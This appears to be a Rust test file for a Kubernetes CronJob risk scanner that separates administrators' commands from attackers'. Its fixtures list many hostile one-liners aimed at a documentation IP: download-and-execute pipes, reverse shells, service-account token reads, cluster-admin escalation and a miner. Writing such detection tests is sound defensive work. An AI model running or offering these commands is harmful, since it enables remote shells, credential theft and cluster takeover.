mod approval;
mod explanation;

use serde_json::{Value, json};

use super::*;
use crate::api::ApprovedCronJob;
use crate::api::code::RiskCode;
use crate::inventory::Labels;
use crate::workload::WorkloadKind;

fn now() -> Timestamp {
    "2026-06-01T00:00:00Z".parse().unwrap()
}

fn with_container(container: &Value) -> Workload {
    let manifest = json!({
        "metadata": {"name": "report", "namespace": "web"},
        "spec": {"schedule": "0 6 * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [container]}}}}}
    });
    Workload::from_json(WorkloadKind::CronJob, &manifest.to_string()).unwrap()
}

fn inventory(approvals: &[Value]) -> Inventory {
    let mut inventory = Inventory::default();
    for (i, spec) in approvals.iter().enumerate() {
        let spec = serde_json::from_value(spec.clone()).unwrap();
        inventory.insert(Approval::compile(&ApprovedCronJob::new(&format!("approval-{i}"), spec)));
    }
    inventory
}

fn risks_of(container: &Value) -> Vec<RiskCode> {
    let assessment = assess(&with_container(container), &Inventory::default(), &Labels::new(), now());
    assessment.risks.iter().map(|risk| risk.code).collect()
}

/// What administrators write every day, and what attackers write.
#[test]
fn commands_of_attackers_are_told_from_those_of_administrators() {
    for (line, suspicious) in [
        ("curl -fsSL http://203.0.113.7/x | bash", true),
        ("wget -qO- http://203.0.113.7/x.sh|sh", true),
        ("bash <(curl -s http://203.0.113.7/x)", true),
        ("sh -c \"$(curl -fsSL http://203.0.113.7/x)\"", true),
        ("wget http://203.0.113.7/x -O /tmp/x; chmod 755 /tmp/x; /tmp/x", true),
        ("wget http://203.0.113.7/x && chmod a+x x && ./x", true),
        ("python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://203.0.113.7\").read())'", true),
        ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", true),
        ("nc 203.0.113.7 443 -e /bin/sh ", true),
        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f", true),
        ("echo aGk= | base64 -d | sh", true),
        ("nsenter -t 1 -m -u -i -n bash", true),
        ("echo ssh-rsa AAAA >> /host/root/.ssh/authorized_keys", true),
        ("cat /run/secrets/kubernetes.io/serviceaccount/token", true),
        ("kubectl get secrets -A -o yaml", true),
        ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x", true),
        ("./xmrig -o pool:3333", true),
        ("curl -s http://203.0.113.7/p.py | python3 -", true),
        ("wget -qO- http://203.0.113.7/p.pl | perl", true),
        ("curl -s http://203.0.113.7/p.js | node; sleep 1", true),
        ("curl -s http://203.0.113.7/p.rb | /usr/bin/ruby", true),
        ("python2 -c 'import urllib2; exec urllib2.urlopen(\"http://203.0.113.7\").read()'", true),
        ("python2 -c 'import urllib2 as u; c=u.urlopen(\"http://203.0.113.7\").read(); exec c'", true),
        ("python3 -c 'import requests\nc=requests.get(\"http://203.0.113.7\").text\nexec(c)'", true),
        ("socat TCP:203.0.113.7:443 EXEC:'/bin/sh -li',pty", true),
        ("mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 >/tmp/s", true),
        ("openssl s_client -quiet -connect 203.0.113.7:443 | /bin/sh", true),
        ("perl -e 'use Socket;socket(S,2,1,6);connect(S,$p);open(STDIN,\">&S\");exec(\"/bin/sh -i\")'", true),
        ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,$a);STDIN->fdopen($c,r);system$_ while<>'", true),
        ("ruby -rsocket -e 'c=TCPSocket.new(h,1);while(l=c.gets);IO.popen(l){|io|c.print io.read}end'", true),
        ("ruby -rsocket -e 'f=TCPSocket.open(h,1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'", true),
        ("python3 -c 'import socket,subprocess as p;s=socket.socket();p.call([\"/bin/sh\"])'", true),
        ("curl -s 'http://[fd00:ec2::254]/latest/meta-data/'", true),
        ("ls /var/run/secrets/kubernetes.io/serviceaccount", true),
        ("cat /var/run/secrets/kubernetes.io/serviceaccount/*", true),
        ("powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoA", true),
        ("pwsh -c \"iwr http://203.0.113.7/a.ps1 | iex\"", true),
        ("pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"", true),
        ("écho; curl http://203.0.113.7/x | bash", true),
        ("pg_dump --all | gzip > /backup/dump.gz", false),
        ("curl -fsS https://hc-ping.example.com/1 && run-report", false),
        ("curl -s https://api.example.com/items | jq .name", false),
        ("kubectl rollout restart deployment/web", false),
        ("find /var/log -mtime +7 -delete", false),
        ("aws s3 sync /data s3://backups/data", false),
        ("certbot renew --quiet && nginx -s reload", false),
        ("gzip -d /in/a.gz && psql -f /in/a", false),
        ("nc -z db 5432 && migrate", false),
        ("chmod 644 /etc/app.conf && app", false),
        ("base64 -d /cfg/key > /tmp/key && app --key /tmp/key", false),
        ("python3 manage.py clearsessions", false),
        ("php artisan schedule:run", false),
        ("curl -s https://api.example.com/items | python3 -m json.tool", false),
        ("curl -s https://api.example.com/items | python3 -c 'import json,sys; json.load(sys.stdin)'", false),
        ("curl -s https://api.example.com/items | perl -ne 'print if /x/'", false),
        ("curl -s https://api.example.com/items | node parse.js", false),
        ("exec python3 -c 'import urllib.request as u; u.urlopen(\"https://heartbeat.example.com\")'", false),
        ("python3 -c 'import urllib.request as u; u.urlopen(\"https://h.example.com\")' && exec app", false),
        ("python3 -c 'import requests; db.exec(requests.get(\"https://h.example.com\").text)'", false),
        ("openssl s_client -connect shop.example.com:443 </dev/null | openssl x509 -noout -enddate", false),
        ("mysqladmin --socket /run/mysqld/mysqld.sock ping && exec /usr/bin/sh /etc/notify.sh", false),
        ("python3 -c 'import socket; socket.create_connection((\"db\", 5432))' && exec /bin/sh /run.sh", false),
        ("ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close' && exec bundle exec rake", false),
        ("perl -e 'use IO::Socket; IO::Socket::INET->new(\"db:5432\") or exit 1' && exec run-report", false),
        ("curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default", false),
        ("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace", false),
        ("pwsh -ExecutionPolicy Bypass -File Sync-Prices.ps1", false),
        ("pwsh -c Invoke-WebRequest https://api.example.com/items -OutFile items.json", false),
        ("iex -S mix run", false),
    ] {
        let found = risks_of(&json!({"name": "a", "image": "app:1", "command": ["sh", "-c", line]}));
        let expected: &[RiskCode] = if suspicious { &[RiskCode::SuspiciousCommand] } else { &[] };
        assert_eq!(found, expected, "{line}");
        let split: Vec<&str> = line.split(' ').collect();
        let found = risks_of(&json!({"name": "a", "image": "app:1", "args": split}));
        assert_eq!(found, expected, "{line}, as arguments");
    }
}

#[test]
fn hosts_without_a_proxy_are_no_theft_and_nothing_else_hides_among_them() {
    let risks = |name: &str, value: &str| {
        risks_of(&json!({"name": "a", "image": "app:1", "env": [{"name": name, "value": value}]}))
    };
    let suspicious = [RiskCode::SuspiciousCommand];
    for name in ["NO_PROXY", "no_proxy"] {
        assert_eq!(risks(name, "169.254.169.254, .svc,10.0.0.0/8,[fd00:ec2::254]"), []);
        assert_eq!(risks(name, "curl http://169.254.169.254/latest | sh"), suspicious);
        assert_eq!(risks(name, "169.254.169.254/latest"), suspicious);
    }
    assert_eq!(risks("TARGET", "169.254.169.254"), suspicious);
}

#[test]
fn severity_starts_from_the_worst_deviation_and_each_kind_of_risk_raises_it_once() {
    let severity = |container: Value, approvals: &[Value]| {
        let assessment = assess(&with_container(&container), &inventory(approvals), &Labels::new(), now());
        (assessment.severity, assessment.severity_reasons.join("; "))
    };
    let plain = json!({"name": "a", "image": "app:1"});
    let privileged = json!({"name": "a", "image": "app:1", "securityContext": {"privileged": true}});
    let suspicious = json!({"name": "a", "image": "app:1", "command": ["sh", "-c", "curl x | sh"]});
    let everything = json!({"match": {"names": ["*"]}, "allowed": {"podSecurity": "Privileged"}});
    let labelled = json!({"match": {"names": ["*"]}, "expected": {"labels": {"a": "b"}}});
    for (container, approvals, expected, reasons) in [
        (&plain, vec![], Severity::Medium, "Medium: Unapproved"),
        (&plain, vec![labelled.clone()], Severity::Low, "Low: Labels"),
        (&suspicious, vec![labelled], Severity::Medium, "Low: Labels; Medium: raised by SuspiciousCommand"),
        (&suspicious, vec![], Severity::High, "Medium: Unapproved; High: raised by SuspiciousCommand"),
        (&privileged, vec![everything], Severity::Low, ""),
    ] {
        assert_eq!(severity(container.clone(), &approvals), (expected, reasons.to_owned()));
    }
}

/// What a node path reaches does not depend on how it is written.
#[test]
fn host_paths_are_compared_in_their_shortest_form() {
    let judge = |path: &str, allowed: &[&str]| {
        let manifest = json!({
            "metadata": {"name": "a", "namespace": "web"},
            "spec": {"template": {"spec": {
                "containers": [{"name": "a", "image": "app:1"}],
                "volumes": [{"name": "v", "hostPath": {"path": path}}]
            }}}
        });
        let workload = Workload::from_json(WorkloadKind::Job, &manifest.to_string()).unwrap();
        let approval = json!({"match": {"kinds": ["Job"], "names": ["*"]}, "allowed": {"hostPaths": allowed}});
        let assessment = assess(&workload, &inventory(&[approval]), &Labels::new(), now());
        let reaches_socket = assessment.risks.iter().any(|risk| risk.code == RiskCode::RuntimeSocket);
        (assessment.is_approved(), reaches_socket)
    };
    for (path, allowed, is_allowed, reaches_socket) in [
        ("/var/log", ["/var/log"], true, false),
        ("/var/log/", ["/var/log"], true, false),
        ("/var/log", ["/var/log/"], true, false),
        ("/var//log/.", ["/var/log"], true, false),
        ("/var/log/app", ["/var/log/*"], true, false),
        ("/var/log/", ["/var/log/*"], false, false),
        ("/var/log/.", ["/var/log/*"], false, false),
        ("/var/log/..", ["/var/log/*"], false, true),
        ("/var/log/app/x", ["/var/log/*"], false, false),
        ("/", ["/*"], false, true),
        ("/..", ["/*"], false, true),
        ("/", ["/"], true, true),
        ("/run", ["/run"], true, true),
        ("/run/containerd", ["/run"], false, true),
        ("/run/docker.sock/", ["/opt"], false, true),
        ("/runner", ["/runner"], true, false),
        ("/run/dockerd", ["/opt"], false, false),
    ] {
        assert_eq!(judge(path, &allowed), (is_allowed, reaches_socket), "{path} where {allowed:?} is allowed");
    }
}

/// An approval that leaves everything open still does not cover what cannot be read.
#[test]
fn what_is_malformed_satisfies_no_approval() {
    let open = json!({"match": {"names": ["*"]}});
    let by_path = json!({"match": {"names": ["*"]}, "expected": {"deploymentPaths": ["argocd"]}});
    let workload = with_container(&json!({"name": "a", "image": "not an image"}));
    let assessment = assess(&workload, &inventory(&[by_path, open]), &Labels::new(), now());
    assert_eq!(assessment.deviations.iter().map(|d| d.code).collect::<Vec<_>>(), [DeviationCode::Malformed]);
    assert!(assessment.unknown.is_empty());
    for approval in &assessment.approvals {
        assert_eq!((approval.outcome, approval.deviations), (Outcome::Deviates, 1), "{}", approval.name);
    }
}

/// What an approval speaks for may be everywhere, even where it deviates.
#[test]
fn only_what_nothing_approves_is_part_of_a_campaign() {
    let workload = with_container(&json!({"name": "a", "image": "app:1"}));
    let campaign = Campaign { fingerprint: "3fa9".to_owned(), namespaces: 7, workloads: 9 };
    let labels = Labels::new();
    let judged = |approvals: &[Value]| {
        let surroundings = Surroundings::from(&labels).in_campaign(Some(&campaign));
        assess(&workload, &inventory(approvals), surroundings, now())
    };
    let unapproved = judged(&[]);
    assert_eq!(unapproved.campaign.as_ref(), Some(&campaign));
    assert_eq!(unapproved.severity_reasons, ["Medium: Unapproved", "High: raised by FanOut"]);
    let detail = &unapproved.risks.last().unwrap().detail;
    assert!(detail.contains("7 namespaces (9 workloads)") && detail.contains("3fa9"), "{detail}");
    let invalid = json!({"match": {"names": ["["]}});
    assert!(judged(&[invalid]).is_unapproved());
    let approved = json!({"match": {"names": ["report"]}, "expected": {"schedules": ["0 6 * * *"]}});
    let deviating = json!({"match": {"names": ["report"]}, "expected": {"schedules": ["0 7 * * *"]}});
    for approval in [approved, deviating] {
        let assessment = judged(&[approval]);
        assert_eq!(assessment.campaign, None);
        assert!(assessment.risks.iter().all(|risk| risk.code != RiskCode::FanOut), "{assessment:?}");
    }
}
